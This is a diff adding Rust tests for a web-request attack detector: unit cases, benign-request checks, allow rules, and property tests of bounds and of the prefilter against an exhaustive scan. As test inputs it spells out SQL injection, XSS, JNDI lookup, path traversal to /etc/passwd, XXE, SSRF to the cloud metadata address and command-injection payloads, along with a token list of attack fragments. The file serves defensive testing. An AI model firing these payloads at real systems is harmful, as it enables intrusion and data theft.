@@ -1,0 +1,513 @@
+//! The detector end to end: requests in, findings out, read like a specification; then the
+//! properties: no panic and bounded output on any input, bounded normalisation, and the
+//! prefilter checked against its slow twin (every class on every value).
+
+use std::net::IpAddr;
+use std::sync::OnceLock;
+
+use proptest::prelude::*;
+
+use crate::config::{AllowRule, DetectConfig};
+use crate::normalize::{normalize, MAX_NORMALIZE_ROUNDS, PASSES};
+use crate::{Class, Detector, Finding, Location, Request, ScanReport, MAX_EVIDENCE_BYTES};
+
+/// What a test compares: (class, rule, location as written in records).
+type Found = (Class, &'static str, String);
+
+/// A request under construction.
+struct Req {
+    method: &'static str,
+    target: String,
+    headers: Vec<(String, String)>,
+    body: Vec<u8>,
+    endpoint: Option<&'static str>,
+    client: Option<IpAddr>,
+}
+
+fn get(target: &str) -> Req {
+    Req {
+        method: "GET",
+        target: target.into(),
+        headers: Vec::new(),
+        body: Vec::new(),
+        endpoint: None,
+        client: None,
+    }
+}
+
+fn post(target: &str, content_type: &str, body: &str) -> Req {
+    get(target)
+        .method("POST")
+        .header("Content-Type", content_type)
+        .body(body)
+}
+
+impl Req {
+    fn method(mut self, m: &'static str) -> Req {
+        self.method = m;
+        self
+    }
+    fn header(mut self, n: &str, v: &str) -> Req {
+        self.headers.push((n.into(), v.into()));
+        self
+    }
+    fn body(mut self, b: &str) -> Req {
+        self.body = b.as_bytes().to_vec();
+        self
+    }
+    fn endpoint(mut self, e: &'static str) -> Req {
+        self.endpoint = Some(e);
+        self
+    }
+    fn client(mut self, ip: &str) -> Req {
+        self.client = ip.parse().ok();
+        self
+    }
+
+    fn scan_with(&self, det: &Detector) -> (Vec<Finding>, ScanReport) {
+        let headers: Vec<(&str, &str)> = self
+            .headers
+            .iter()
+            .map(|(n, v)| (n.as_str(), v.as_str()))
+            .collect();
+        let req = Request {
+            method: self.method,
+            target: &self.target,
+            headers: &headers,
+            body: &self.body,
+            body_truncated: false,
+            endpoint: self.endpoint,
+            client: self.client,
+        };
+        let mut out = Vec::new();
+        let report = det.scan(&req, &mut out);
+        (out, report)
+    }
+
+    /// (class, rule, location) of every finding at the default config.
+    fn findings(&self) -> Vec<Found> {
+        self.findings_with(&DetectConfig::default())
+    }
+
+    fn findings_with(&self, cfg: &DetectConfig) -> Vec<Found> {
+        let det = Detector::new(cfg).expect("valid config");
+        self.scan_with(&det)
+            .0
+            .into_iter()
+            .map(|f| (f.class, f.rule, f.location.to_string()))
+            .collect()
+    }
+}
+
+fn one(class: Class, rule: &'static str, loc: &str) -> Vec<Found> {
+    vec![(class, rule, loc.to_string())]
+}
+
+#[test]
+fn each_place_a_value_can_hide() {
+    let cases: Vec<(&str, Req, Vec<Found>)> = vec![
+        ("query value", get("/search?q=1%27%20OR%20%271%27%3D%271"), one(Class::Sqli, "sqli.fingerprint", "query:q")),
+        ("path segment", get("/api/users/1%20union%20select%201,2--/orders"), one(Class::Sqli, "sqli.fingerprint", "path")),
+        ("decoded path", get("/static/..%2f..%2f..%2fetc/passwd"), one(Class::Traversal, "traversal.dot-dot", "path")),
+        ("query name", get("/login?user[$ne]=x"), one(Class::Nosqli, "nosqli.operator-key", "query:user[$ne]")),
+        ("user agent", get("/").header("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"), one(Class::Scanner, "scanner.user-agent", "header:user-agent")),
+        ("custom header", get("/").header("X-Api-Version", "${jndi:ldap://x.example/a}"), one(Class::Jndi, "jndi.lookup", "header:x-api-version")),
+        ("cookie", get("/").header("Cookie", "sid=abc; pref=%3Cscript%3Ealert(1)%3C/script%3E"), one(Class::Xss, "xss.libinjection", "cookie:pref")),
+        ("referer query", get("/").header("Referer", "https://shop.example/p?id=1;cat%20/etc/passwd"), one(Class::Cmdi, "cmdi.separator", "header:referer")),
+        ("json at depth", post("/api/orders", "application/json", r#"{"items":[{"note":"ok"},{"note":"<svg onload=alert(1)>"}]}"#), one(Class::Xss, "xss.libinjection", "body:/items/1/note")),
+        ("json key", post("/login", "application/json", r#"{"user":"a","password":{"$ne":null}}"#), one(Class::Nosqli, "nosqli.operator-key", "body:/password/$ne")),
+        ("form field", post("/hook", "application/x-www-form-urlencoded", "url=http%3A%2F%2F169.254.169.254%2Flatest%2F"), one(Class::Ssrf, "ssrf.metadata", "body:url")),
+        ("multipart part", post("/upload", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"msg\"\r\n\r\n{{7*7}}\r\n--b--\r\n"), one(Class::Ssti, "ssti.arithmetic", "body:msg")),
+        ("xml body", post("/import", "application/xml", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"), one(Class::Xxe, "xxe.external-entity", "body")),
+        ("graphql argument", post("/graphql", "application/json", r#"{"query":"{ user(name: \"x' OR 1=1--\") { id } }"}"#), one(Class::Sqli, "sqli.fingerprint", "body:/query")),
+        ("plain text", post("/notes", "text/plain", "hello ${${lower:j}ndi:ldap://x/a}"), one(Class::Jndi, "jndi.lookup", "body")),
+    ];
+    for (what, req, want) in cases {
+        assert_eq!(req.findings(), want, "{what}");
+    }
+}
+
+#[test]
+fn benign_requests_have_no_findings() {
+    let cases = [
+        get("/api/v1/orders/42?fields=id,total&sort=-created_at"),
+        get("/search?q=O%27Brien&page=2").header("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"),
+        post("/api/users/7", "application/json", r#"{"name":"Seán O'Neill","bio":"I select the best and drop the rest; union rep.","select":["id"],"order":"desc"}"#),
+        post("/graphql", "application/json", r#"{"query":"query Q($id: ID!) { order(id: $id) { total } }","variables":{"id":"42"}}"#),
+        post("/files", "application/json", r#"{"path":"C:\\Users\\alice\\Documents\\Q3 report.xlsx"}"#),
+        get("/preview?url=https%3A%2F%2Fwww.example.com%2Farticle%3Fid%3D5"),
+        get("/").header("sec-ch-ua", "\"Chromium\";v=\"124\", \"Not-A.Brand\";v=\"99\"").header("Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
+    ];
+    for req in cases {
+        assert_eq!(req.findings(), vec![], "{}", req.target);
+    }
+}
+
+#[test]
+fn findings_are_deduplicated_and_bounded() {
+    // The same attack twice at one place is one finding; at another place it is another.
+    let req = get("/s?q=%3Cscript%3E&q=%3Cscript%3E&r=%3Cscript%3E");
+    assert_eq!(
+        req.findings(),
+        vec![
+            (Class::Xss, "xss.libinjection", "query:q".into()),
+            (Class::Xss, "xss.libinjection", "query:r".into())
+        ]
+    );
+
+    let many: String = (0..40).map(|i| format!("p{i}=%3Cscript%3E&")).collect();
+    let cfg = DetectConfig {
+        max_findings: 5,
+        ..DetectConfig::default()
+    };
+    let det = Detector::new(&cfg).unwrap();
+    let (found, report) = get(&format!("/s?{many}")).scan_with(&det);
+    assert_eq!(found.len(), 5);
+    assert_eq!(report.findings_dropped, 35);
+}
+
+#[test]
+fn bounds_stop_the_scan_and_say_so() {
+    let cfg = DetectConfig {
+        max_fields: 4,
+        ..DetectConfig::default()
+    };
+    let det = Detector::new(&cfg).unwrap();
+    let (found, report) = get("/a?x=1&y=2&z=%3Cscript%3E").scan_with(&det);
+    assert!(
+        found.is_empty(),
+        "the attack is past the field bound: {found:?}"
+    );
+    assert!(report.stopped_at_bound);
+    assert_eq!(report.values, 4);
+
+    let cfg = DetectConfig {
+        max_value_bytes: 8,
+        ..DetectConfig::default()
+    };
+    let det = Detector::new(&cfg).unwrap();
+    let (found, report) = get("/a?x=aaaaaaaaaaaaaaaaaaaa%3Cscript%3E").scan_with(&det);
+    assert!(found.is_empty());
+    assert_eq!(report.values_cut, 1);
+}
+
+#[test]
+fn evidence_is_short_and_from_the_value() {
+    let long = "x".repeat(300);
+    let det = Detector::new(&DetectConfig::default()).unwrap();
+    let (found, _) = get(&format!("/s?q=%3Cscript%3E{long}")).scan_with(&det);
+    assert_eq!(found.len(), 1);
+    assert!(found[0].evidence.len() <= MAX_EVIDENCE_BYTES);
+    assert!(
+        found[0].evidence.starts_with("<script>"),
+        "{}",
+        found[0].evidence
+    );
+}
+
+#[test]
+fn allow_rules_by_endpoint_param_client_and_class() {
+    let xss =
+        get("/cms?html=%3Cscript%3Ealert(1)%3C/script%3E&q=1%27%20or%201=1--").endpoint("GET /cms");
+    let rule = |r: AllowRule| DetectConfig {
+        allow: vec![r],
+        ..DetectConfig::default()
+    };
+    let all = xss.findings();
+    assert_eq!(all.len(), 2, "{all:?}");
+
+    let by_param = rule(AllowRule {
+        endpoints: vec!["GET /cms*".into()],
+        params: vec!["html".into()],
+        classes: vec!["xss".into()],
+        ..AllowRule::default()
+    });
+    assert_eq!(
+        xss.findings_with(&by_param),
+        vec![(Class::Sqli, "sqli.fingerprint", "query:q".into())]
+    );
+
+    let other_endpoint = rule(AllowRule {
+        endpoints: vec!["POST /cms".into()],
+        ..AllowRule::default()
+    });
+    assert_eq!(xss.findings_with(&other_endpoint).len(), 2);
+
+    let scanner = rule(AllowRule {
+        clients: vec!["10.9.0.0/16".into()],
+        ..AllowRule::default()
+    });
+    let from_scanner = get("/s?q=%3Cscript%3E").client("10.9.1.2");
+    let det = Detector::new(&scanner).unwrap();
+    let (found, report) = from_scanner.scan_with(&det);
+    assert!(found.is_empty() && report.request_allowed);
+    assert_eq!(
+        get("/s?q=%3Cscript%3E")
+            .client("10.8.1.2")
+            .findings_with(&scanner)
+            .len(),
+        1
+    );
+}
+
+#[test]
+fn classes_off_enabled_off_and_paranoia() {
+    let req = get("/s?q=%3Cscript%3E&f=..%2f..%2fetc%2fpasswd");
+    let mut cfg = DetectConfig::default();
+    cfg.classes.xss = false;
+    assert_eq!(
+        req.findings_with(&cfg),
+        vec![(Class::Traversal, "traversal.dot-dot", "query:f".into())]
+    );
+    let off = DetectConfig {
+        enabled: false,
+        ..DetectConfig::default()
+    };
+    assert!(req.findings_with(&off).is_empty());
+
+    let one_level = get("/f?name=../config.yml");
+    assert!(one_level
+        .findings_with(&DetectConfig {
+            paranoia: 1,
+            ..DetectConfig::default()
+        })
+        .is_empty());
+    assert_eq!(
+        one_level.findings(),
+        vec![(Class::Traversal, "traversal.dot-dot", "query:name".into())]
+    );
+}
+
+#[test]
+fn bad_config_is_an_error() {
+    assert!(Detector::new(&DetectConfig {
+        paranoia: 9,
+        ..DetectConfig::default()
+    })
+    .is_err());
+}
+
+#[test]
+fn detector_is_shared_across_threads() {
+    fn check<T: Send + Sync>() {}
+    check::<Detector>();
+}
+
+#[test]
+fn location_names_are_lower_case_headers() {
+    let f = get("/").header("X-Forwarded-For", "1' or 1=1--").findings();
+    assert_eq!(
+        f,
+        vec![(
+            Class::Sqli,
+            "sqli.fingerprint",
+            "header:x-forwarded-for".into()
+        )]
+    );
+    assert_eq!(
+        Location::Header("x-forwarded-for".into()).to_string(),
+        "header:x-forwarded-for"
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Properties
+
+/// Cases per property: enough to reach every rule's branches from the token soup, small
+/// enough for CI.
+const CASES: u32 = 256;
+
+fn proptest_config() -> ProptestConfig {
+    let cases = std::env::var("PROPTEST_CASES")
+        .ok()
+        .and_then(|v| v.parse().ok())
+        .unwrap_or(CASES);
+    ProptestConfig::with_cases(cases)
+}
+
+/// Fragments of attacks, of their encodings and of ordinary text; soups of them reach the
+/// rules far more often than random bytes do.
+const TOKENS: &[&str] = &[
+    "1",
+    "'",
+    "\"",
+    " ",
+    "or",
+    "and",
+    "union",
+    "select",
+    "from",
+    "<",
+    ">",
+    "script",
+    "img",
+    "onerror",
+    "=",
+    "../",
+    "..",
+    "/",
+    "\\",
+    "%2e",
+    "%2f",
+    "%25",
+    "%c0%ae",
+    "etc/passwd",
+    ";",
+    "|",
+    "&",
+    "`",
+    "$",
+    "(",
+    ")",
+    "{",
+    "}",
+    "{{",
+    "7*7",
+    "${",
+    "jndi:",
+    "lower:",
+    "::-",
+    "ldap:",
+    "://",
+    "127.0.0.1",
+    "localhost",
+    "169.254.169.254",
+    "http",
+    "file:",
+    "$ne",
+    "[",
+    "]",
+    "whoami",
+    "cat",
+    "id",
+    "ls",
+    "-",
+    ",",
+    ".",
+    "a",
+    "x",
+    "\n",
+    "%00",
+    "&#x3c;",
+    "&lt;",
+    "\\u003c",
+    "--",
+    "/*",
+    "*/",
+    "#",
+    "<!ENTITY",
+    "SYSTEM",
+    "<!DOCTYPE",
+    "é",
+    "\u{FF0E}",
+    "0x7f",
+    "sleep(",
+    "this.",
+    "return",
+    "sqlmap",
+    "oastify.com",
+    "%u002e",
+    "=",
+    "+",
+];
+
+fn soup() -> impl Strategy<Value = String> {
+    prop::collection::vec(prop::sample::select(TOKENS), 0..14).prop_map(|t| t.concat())
+}
+
+/// The requests a soup is placed in: a query value, a JSON string, a header, a text body.
+fn requests(s: &str) -> Vec<Req> {
+    let enc: String = s.bytes().map(|b| format!("%{b:02X}")).collect();
+    vec![
+        get(&format!("/a/{enc}?v={enc}")),
+        post(
+            "/j",
+            "application/json",
+            &serde_json::json!({ "k": { "v": s } }).to_string(),
+        ),
+        get("/").header("X-Thing", s).header("User-Agent", s),
+        post("/t", "text/plain", s),
+    ]
+}
+
+/// The detector at each paranoia level (index 0 for level 1), with `max_findings` 64, and its
+/// slow twin; built once (building compiles every rule).
+fn detectors(paranoia: u8) -> &'static (Detector, Detector) {
+    static ALL: OnceLock<Vec<(Detector, Detector)>> = OnceLock::new();
+    let all = ALL.get_or_init(|| {
+        (1..=4)
+            .map(|p| {
+                let cfg = DetectConfig {
+                    paranoia: p,
+                    max_findings: 64,
+                    ..DetectConfig::default()
+                };
+                (
+                    Detector::new(&cfg).unwrap(),
+                    Detector::new(&cfg).unwrap().without_prefilter(),
+                )
+            })
+            .collect()
+    });
+    &all[usize::from(paranoia - 1)]
+}
+
+fn keys(found: &[Finding]) -> Vec<(Class, &'static str, Location)> {
+    found
+        .iter()
+        .map(|f| (f.class, f.rule, f.location.clone()))
+        .collect()
+}
+
+proptest! {
+    #![proptest_config(proptest_config())]
+
+    /// Any bytes anywhere: no panic, findings bounded, evidence short, no duplicates.
+    #[test]
+    fn scan_never_panics_and_stays_bounded(
+        target in prop::collection::vec(any::<u8>(), 0..200),
+        header in prop::collection::vec(any::<u8>(), 0..200),
+        body in prop::collection::vec(any::<u8>(), 0..400),
+        ct in prop::sample::select(&["application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "text/plain", "application/graphql", "image/png", ""][..]),
+        paranoia in 1u8..=4,
+    ) {
+        let target = format!("/{}", String::from_utf8_lossy(&target));
+        let header = String::from_utf8_lossy(&header).into_owned();
+        let det = &detectors(paranoia).0;
+        let headers = [("User-Agent", header.as_str()), ("Content-Type", ct), ("Cookie", header.as_str()), ("X-A", header.as_str())];
+        let req = Request { method: "POST", target: &target, headers: &headers, body: &body, body_truncated: true, endpoint: None, client: None };
+        let mut out = Vec::new();
+        let _ = det.scan(&req, &mut out);
+        prop_assert!(out.len() <= 64);
+        for f in &out {
+            prop_assert!(f.evidence.len() <= MAX_EVIDENCE_BYTES);
+        }
+        let mut k = keys(&out);
+        k.sort_by_key(|(c, r, l)| (*c, *r, l.to_string()));
+        let n = k.len();
+        k.dedup();
+        prop_assert_eq!(k.len(), n, "duplicate findings");
+    }
+
+    /// Normalisation runs a bounded number of linear passes and never grows a value.
+    #[test]
+    fn normalisation_is_bounded(raw in prop::collection::vec(any::<u8>(), 0..300), soup in soup()) {
+        for input in [raw, soup.into_bytes()] {
+            let n = normalize(&input);
+            prop_assert!(n.passes <= MAX_NORMALIZE_ROUNDS * PASSES);
+            prop_assert!(n.bytes.len() <= input.len());
+        }
+    }
+
+    /// The prefilter and the plain-value fast path never hide a finding: the detector finds
+    /// the same as its slow twin, which runs every class on every value, at every level.
+    #[test]
+    fn prefilter_matches_exhaustive_scan(s in soup(), paranoia in 1u8..=4) {
+        let (fast, slow) = detectors(paranoia);
+        for req in requests(&s) {
+            let (a, _) = req.scan_with(fast);
+            let (b, _) = req.scan_with(slow);
+            prop_assert_eq!(keys(&a), keys(&b), "{:?}", s);
+        }
+    }
+}
